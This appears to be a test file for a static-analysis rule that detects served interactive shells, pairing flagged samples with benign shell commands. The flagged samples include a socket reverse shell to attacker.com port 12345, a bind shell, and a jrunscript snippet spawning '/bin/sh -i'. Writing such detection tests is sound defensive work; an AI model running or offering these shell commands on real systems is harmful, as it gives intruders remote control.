# ruleid: bash.interactive-shell-served
socket -qvp '/bin/sh -i' attacker.com 12345
# ruleid: bash.interactive-shell-served
socket -svp '/bin/sh -i' 12345
jrunscript -e 'var host="attacker.com";
    var port=12345;
# ruleid: bash.interactive-shell-served
    var p=new java.lang.ProcessBuilder("/bin/sh", "-i").redirectErrorStream(true).start();'
# ok: bash.interactive-shell-served
bash -i
# ok: bash.interactive-shell-served
sh -c 'echo hi'
# ok: bash.interactive-shell-served
script -q -c "make test" /dev/null
